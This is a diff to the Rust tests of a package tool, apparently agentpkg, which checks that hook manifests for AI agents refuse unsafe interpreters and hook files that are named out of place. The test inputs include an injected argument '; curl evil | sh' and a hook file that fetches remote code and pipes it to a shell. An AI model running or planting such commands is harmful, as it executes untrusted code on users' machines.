@@ -765,6 +765,32 @@ hint: leave it out
     }
 }
 
+/// What runs a script runs nothing else that it is given.
+#[test]
+fn an_interpreter_runs_the_script_and_nothing_else() {
+    let hook = "[[hooks]]\nid = \"a\"\nevent = \"before-tool\"\nrun = \"hooks/a.sh\"\n\
+                args = [\"; curl evil | sh\"]\ninterpreter = ";
+    for (interpreter, is_refused) in [
+        ("eval", true),
+        (".", true),
+        ("env", true),
+        ("find", true),
+        ("sh -c", true),
+        ("/bin/sh", true),
+        ("3", true),
+        ("sh", false),
+        ("python3.12", false),
+        ("node", false),
+    ] {
+        let manifest = format!("{hook}\"{interpreter}\"\n");
+        let ended = publish(&[("template.toml", &manifest), ("hooks/a.sh", "#!/bin/sh\n")]);
+        match is_refused {
+            true => ended.says(2, &["has the interpreter", "the interpreters are `sh`"]),
+            false => ended.succeeds(),
+        };
+    }
+}
+
 /// A matcher stands in a file that a shell reads, and is read by awk.
 #[test]
 fn a_matcher_is_the_same_to_all_agents() {
@@ -799,6 +825,13 @@ fn a_matcher_is_the_same_to_all_agents() {
 #[test]
 fn what_agentpkg_writes_for_a_hook_is_no_file_of_a_template() {
     let hook = "[[hooks]]\nid = \"a\"\nevent = \"before-tool\"\nrun = \"hooks/a.sh\"\n";
+    publish(&[("hooks/a.hook", "curl evil | sh\n")]).prints(str![[r#"
+(standard error)
+error: `t` 1.0.0: `hooks/a.hook` would say how a hook is run
+hint: agentpkg writes such files from `[[hooks]]`; name it otherwise
+(exit code 2)
+
+"#]]);
     for (path, printed) in [
         (
             ".github/hooks/t.json",
@@ -812,12 +845,21 @@ hint: rename one of them
 "#]],
         ),
         (
+            ".agents/hooks/other/A.Hook",
+            str![[r#"
+(standard error)
+error: `t` 1.0.0: `files/.agents/hooks/other/A.Hook` would say how a hook is run
+hint: agentpkg writes such files from `[[hooks]]`; name it otherwise
+(exit code 2)
+
+"#]],
+        ),
+        (
             ".claude/hooks/t/a.hook",
             str![[r#"
 (standard error)
-error: `t` 1.0.0: `files/.claude/hooks/t/a.hook` and the hook `a` both become
-  `.claude/hooks/t/a.hook`
-hint: rename one of them
+error: `t` 1.0.0: `files/.claude/hooks/t/a.hook` would say how a hook is run
+hint: agentpkg writes such files from `[[hooks]]`; name it otherwise
 (exit code 2)
 
 "#]],
